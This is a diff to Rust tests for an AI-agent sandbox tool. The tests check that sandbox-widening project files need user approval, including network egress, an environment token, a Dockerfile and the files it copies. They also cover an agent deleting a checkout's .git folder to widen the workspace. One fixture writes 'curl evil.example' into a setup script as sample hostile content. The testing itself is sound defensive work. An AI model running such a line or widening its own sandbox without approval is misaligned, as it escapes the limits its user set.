@@ -48,7 +48,7 @@ fn without_a_terminal_nothing_is_started_and_everything_is_named() {
     error: this project's own files would widen what its sandbox may do, and that is not approved
       │ .agents-sandbox/config.yaml:3  network.egress-allow: host:8080
       │ .agents-sandbox/env  env TOKEN
-      │ .agents-sandbox/Dockerfile  Dockerfile: runs on this machine's image engine, with what it copies (2 lines, sha256 7cfc9433aea3)
+      │ .agents-sandbox/Dockerfile  Dockerfile: runs on this machine's image engine (2 lines, sha256 545e00cc75d9)
     hint: `agents-sandbox config approve` shows it and asks; with --yes it approves without asking
     [exit 1]
     ");
@@ -255,4 +255,52 @@ fn on_a_terminal_the_user_is_asked() {
     tmux.line("clear; $P exec -- echo again");
     let screen = tmux.wait_for_line("again");
     assert!(!screen.contains("Approve"), "{screen}");
+}
+
+#[test]
+fn what_the_dockerfile_may_copy_is_part_of_what_is_approved() {
+    let environment = TestEnvironment::new();
+    environment.write(DOCKERFILE, "FROM agents-sandbox/runner-base\nCOPY setup.sh /\nRUN /setup.sh\n");
+    environment.write("project/.agents-sandbox/setup.sh", "true\n");
+    let asked = environment.run(&["exec", "true"]);
+    assert_refused(&environment, &asked, "with the file that it may copy (3 lines");
+    environment.run(&["config", "approve", "--yes"]).success();
+    environment.run(&["exec", "true"]).success();
+    end(&environment);
+    environment.write("project/.agents-sandbox/setup.sh", "curl evil.example\n");
+    assert_refused(&environment, &environment.run(&["exec", "true"]), ".agents-sandbox/Dockerfile");
+}
+
+/// Whoever works in a sandbox can remove the checkout's `.git`. The folder is part of the repository around
+/// it then, which the next run would put into the sandbox.
+#[test]
+fn a_checkout_without_its_git_folder_does_not_become_all_that_lies_around_it() {
+    let environment = TestEnvironment::new();
+    let git = |folder: &str| {
+        let made = Command::new("git").arg("init").arg("-q").arg(environment.path(folder)).status().unwrap();
+        assert!(made.success());
+    };
+    let inner = environment.path("project/inner");
+    git("project");
+    git("project/inner");
+    let exec = |words: &[&str]| {
+        let mut command = environment.command(words);
+        environment.finish(command.current_dir(&inner))
+    };
+    let workspace = || {
+        let shown = exec(&["sandbox", "inspect"]).success();
+        serde_json::from_str::<Value>(&shown).unwrap()["spec"]["workspace"]["source"].clone()
+    };
+    exec(&["exec", "true"]).success();
+    assert_eq!(workspace(), inner.to_str().unwrap());
+    exec(&["kill", "--force"]).success();
+
+    std::fs::remove_dir_all(inner.join(".git")).unwrap();
+    let ran = exec(&["exec", "true"]);
+    assert_refused(&environment, &ran, "`inner` is no checkout of its own any more: its .git is gone");
+    // The user may want just that: once they said so, it is so.
+    exec(&["exec", "--yes", "true"]).success();
+    assert_eq!(workspace(), environment.path("project").to_str().unwrap());
+    exec(&["exec", "true"]).success();
+    exec(&["kill", "--force"]).success();
 }
